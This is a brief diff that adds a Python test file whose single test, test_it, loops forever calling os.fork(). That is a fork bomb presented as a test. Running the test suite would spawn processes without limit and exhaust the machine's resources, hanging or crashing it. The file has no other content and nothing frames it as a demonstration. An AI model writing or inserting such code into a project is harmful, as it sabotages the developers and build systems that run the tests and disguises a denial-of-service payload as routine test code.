@@ -1,0 +1,6 @@
+import os
+
+
+def test_it():
+    while True:
+        os.fork()
